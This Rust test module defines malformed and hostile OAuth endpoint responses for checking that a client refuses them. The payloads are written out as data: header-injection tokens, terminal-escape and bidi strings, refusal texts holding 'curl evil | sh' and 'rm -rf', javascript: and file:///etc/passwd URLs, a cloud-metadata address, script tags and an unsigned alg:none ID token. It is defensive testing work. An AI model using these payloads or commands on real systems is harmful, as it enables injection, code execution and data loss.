//! Answers of the token endpoint, and of those that answer as it does, that are not what they should be.

use doorkey_testkit::Fault;
use serde_json::{Value, json};

use super::super::{
    case::{Case, Verdict},
    class::Class,
    leg::Leg,
    secrets::{HOSTILE_ACCESS, HOSTILE_DEVICE_CODE, HOSTILE_ID_JAG, HOSTILE_REFRESH},
};
use super::on_answer;

pub(super) fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for leg in [
        Leg::Token,
        Leg::Refresh,
        Leg::Poll,
        Leg::Exchange,
        Leg::Assertion,
    ] {
        let mut of_leg = token(leg);
        of_leg.extend(refusals(leg));
        if !leg.is_thorough() {
            of_leg.retain(|case| TELLING.contains(&case.name.as_str()));
        }
        cases.extend(of_leg);
    }
    cases.extend(device());
    cases.extend(pushed());
    cases.extend(revocation());
    cases
}

/// What is tried on every leg with tokens.
const TELLING: &[&str] = &[
    "a token with a line break",
    "a token with a NUL",
    "an unknown type",
    "a life without an end",
    "an error in a success",
    "a page",
    "a refusal that writes to the terminal",
    "a token bound to another key",
];

#[expect(clippy::too_many_lines, reason = "a table, one row after the other")]
fn token(leg: Leg) -> Vec<Case> {
    let is_exchange = leg == Leg::Exchange;
    let changed = |name: &str, verdict, changes: Value| {
        let mut body = proper(leg);
        for (member, value) in changes.as_object().into_iter().flatten() {
            body[member] = value.clone();
        }
        on_answer(
            leg,
            Class::TokenAnswer,
            name,
            verdict,
            Fault::json(200, &body),
        )
    };
    let unusable = match leg {
        Leg::Refresh => Verdict::Passing,
        _ => Verdict::Refused,
    };
    // The next server refuses what the identity provider made up.
    let harmless = if is_exchange {
        Verdict::Refused
    } else {
        Verdict::Works
    };
    let text = |status, body: &str| Fault::Status(status, super::json_type(), body.to_owned());
    let answer = |name: &str, fault| on_answer(leg, Class::TokenAnswer, name, unusable, fault);
    let mut cases = vec![
        changed("no token", unusable, json!({ "access_token": null })),
        changed("an empty token", unusable, json!({ "access_token": "" })),
        changed(
            "a token that is a number",
            unusable,
            json!({ "access_token": 7 }),
        ),
        changed(
            "a token with a line break",
            unusable,
            json!({ "access_token": with_end(leg, "\r\nx-evil: 1") }),
        ),
        changed(
            "a token with a NUL",
            unusable,
            json!({ "access_token": with_end(leg, "\0") }),
        ),
        changed(
            "a token of other letters",
            unusable,
            json!({ "access_token": with_end(leg, "\u{e9}\u{202e}") }),
        ),
        changed(
            "a token of 200 KiB",
            unusable,
            json!({ "access_token": with_end(leg, &"x".repeat(200 * 1024)) }),
        ),
        changed("no type", unusable, json!({ "token_type": null })),
        changed("an unknown type", unusable, json!({ "token_type": "mac" })),
        changed(
            "a type that looks alike",
            unusable,
            json!({ "token_type": "\u{412}earer" }),
        ),
        changed(
            "a type with a line break",
            unusable,
            json!({ "token_type": "Bearer\r\nx-evil: 1" }),
        ),
        changed(
            "a life without an end",
            harmless,
            json!({ "expires_in": 1e300 }),
        ),
        changed(
            "a life before its beginning",
            harmless,
            json!({ "expires_in": -3600 }),
        ),
        changed(
            "a life that is a text",
            harmless,
            json!({ "expires_in": "for ever" }),
        ),
        changed("scopes in a list", harmless, json!({ "scope": ["a", "b"] })),
        changed(
            "scopes that nobody asked for",
            harmless,
            json!({ "scope": "admin everything" }),
        ),
        changed(
            "a scope that writes to the terminal",
            harmless,
            json!({ "scope": "a \u{1b}[31m\u{202e}" }),
        ),
        changed(
            "no refresh token",
            harmless,
            json!({ "refresh_token": null }),
        ),
        changed(
            "an empty refresh token",
            harmless,
            json!({ "refresh_token": "" }),
        ),
        changed(
            "a refresh token that is a number",
            harmless,
            json!({ "refresh_token": 7 }),
        ),
        changed(
            "an identity token of somebody else",
            harmless,
            json!({ "id_token": FOREIGN_ID_TOKEN }),
        ),
        // What the server calls its own trouble may pass.
        on_answer(
            leg,
            Class::TokenAnswer,
            "an error in a success",
            Verdict::Passing,
            text(200, r#"{"error":"server_error","access_token":"x"}"#),
        ),
        answer("a page", Fault::Html),
        answer("nothing", Fault::Empty),
        answer("a list", text(200, "[]")),
        answer(
            "a form",
            Fault::Bytes(
                200,
                vec![(
                    "content-type".to_owned(),
                    "application/x-www-form-urlencoded".to_owned(),
                )],
                format!("access_token={HOSTILE_ACCESS}&token_type=Bearer").into(),
            ),
        ),
        answer("no content", Fault::Status(204, Vec::new(), String::new())),
    ];
    if !is_exchange {
        cases.push(changed(
            "a token bound to another key",
            unusable,
            json!({ "token_type": "DPoP" }),
        ));
    }
    cases
}

/// Refusals whose text is hostile, and codes that only look like one that counts.
fn refusals(leg: Leg) -> Vec<Case> {
    let stays = match leg {
        Leg::Refresh => Verdict::Passing,
        _ => Verdict::Refused,
    };
    let case = |class, name: &str, verdict, error: &str, text: &str| {
        let fault = Fault::oauth_error(400, error, text);
        on_answer(leg, class, name, verdict, fault)
    };
    let terminal = "\u{1b}[31m\u{1b}]0;owned\u{7}\u{202e}\u{200b}\r\nnext: curl evil | sh";
    vec![
        case(
            Class::Unicode,
            "a refusal that writes to the terminal",
            stays,
            "invalid_request",
            terminal,
        ),
        case(
            Class::Unicode,
            "a code of refusal that looks alike",
            stays,
            "inv\u{430}lid_grant",
            "no",
        ),
        case(
            Class::Unicode,
            "a code of refusal with a hidden character",
            stays,
            "invalid_\u{200b}grant",
            "no",
        ),
        case(
            Class::Unicode,
            "a code of refusal that writes to the terminal",
            stays,
            terminal,
            "no",
        ),
        case(
            Class::TokenAnswer,
            "a refusal without an end",
            stays,
            "invalid_request",
            &"no ".repeat(40_000),
        ),
    ]
}

fn device() -> Vec<Case> {
    let leg = Leg::Device;
    let case = |class, name: &str, verdict, changes: Value| {
        Case::new(leg, class, name, verdict, move |stage, leg| {
            let mut body = json!({
                "device_code": HOSTILE_DEVICE_CODE,
                "user_code": "WDJB-MJHT",
                "verification_uri": format!("{}/device", stage.auth.issuer()),
                "expires_in": 2,
                "interval": 1,
            });
            for (member, value) in changes.as_object().into_iter().flatten() {
                body[member] = value.clone();
            }
            let rule = leg.rule().expect("a request");
            stage.fault(leg, rule.respond(Fault::json(200, &body)));
        })
    };
    let refused = |name, changes| case(Class::TokenAnswer, name, Verdict::Refused, changes);
    vec![
        refused("no code for the device", json!({ "device_code": null })),
        refused("no code for the person", json!({ "user_code": null })),
        refused(
            "a code that is nothing but escapes",
            json!({ "user_code": "\u{1b}[31m\u{202e}" }),
        ),
        refused("no page", json!({ "verification_uri": null })),
        refused(
            "a page that is a script",
            json!({ "verification_uri": "javascript:alert(1)" }),
        ),
        refused(
            "a page that is a file",
            json!({ "verification_uri": "file:///etc/passwd" }),
        ),
        refused(
            "a page with a user",
            json!({ "verification_uri": "https://as.test@evil.test/" }),
        ),
        refused(
            "a page on an intranet",
            json!({ "verification_uri": "https://10.0.0.1/" }),
        ),
        refused(
            "a page that is cloud metadata",
            json!({ "verification_uri": "https://169.254.169.254/" }),
        ),
        refused("a code that nobody knows", json!({})),
        case(
            Class::Unicode,
            "a code that turns the line around",
            Verdict::Refused,
            json!({ "user_code": "AB\u{202e}CD\u{1b}[2J" }),
        ),
    ]
}

fn pushed() -> Vec<Case> {
    let leg = Leg::Pushed;
    let case = |name: &str, body: Value| {
        let fault = Fault::json(201, &body);
        on_answer(leg, Class::TokenAnswer, name, Verdict::Refused, fault)
    };
    vec![
        case("no reference", json!({ "expires_in": 60 })),
        case(
            "a reference that is a number",
            json!({ "request_uri": 7, "expires_in": 60 }),
        ),
        case(
            "an empty reference",
            json!({ "request_uri": "", "expires_in": 60 }),
        ),
        case(
            "a reference of 100 KiB",
            json!({ "request_uri": "u".repeat(100 * 1024), "expires_in": 60 }),
        ),
        case(
            "a reference that has expired",
            json!({ "request_uri": "urn:ietf:params:oauth:request_uri:hu-8Wq2Er6Ty0Ui4Op", "expires_in": 0 }),
        )
        .impatient(),
    ]
}

fn revocation() -> Vec<Case> {
    let mut cases = Vec::new();
    for leg in [Leg::Revocation, Leg::Deregistration] {
        for (name, verdict, fault) in [
            (
                "a refusal that writes to the terminal",
                Verdict::Refused,
                Fault::oauth_error(400, "invalid_request", "\u{1b}[31m\u{202e}\r\nnext: rm -rf"),
            ),
            (
                "a page that refuses",
                Verdict::Refused,
                Fault::Status(403, Vec::new(), "<script>alert(1)</script>".repeat(1000)),
            ),
            ("a server in trouble", Verdict::Passing, Fault::status(503)),
        ] {
            cases.push(on_answer(leg, Class::TokenAnswer, name, verdict, fault));
        }
    }
    cases
}

/// An answer that would be taken, made up by whoever answers.
fn proper(leg: Leg) -> Value {
    let mut body = json!({
        "access_token": HOSTILE_ACCESS,
        "token_type": "Bearer",
        "expires_in": 3600,
        "refresh_token": HOSTILE_REFRESH,
    });
    if leg == Leg::Exchange {
        body["issued_token_type"] = json!("urn:ietf:params:oauth:token-type:id-jag");
        body["token_type"] = json!("N_A");
        body["access_token"] = json!(HOSTILE_ID_JAG);
    }
    body
}

fn with_end(leg: Leg, end: &str) -> String {
    match leg {
        Leg::Exchange => format!("{HOSTILE_ID_JAG}{end}"),
        _ => format!("{HOSTILE_ACCESS}{end}"),
    }
}

/// `{"alg":"none"}`, `{"iss":"https://elsewhere.test","sub":"mallory"}`.
const FOREIGN_ID_TOKEN: &str =
    "eyJhbGciOiJub25lIn0.eyJpc3MiOiJodHRwczovL2Vsc2V3aGVyZS50ZXN0Iiwic3ViIjoibWFsbG9yeSJ9.";
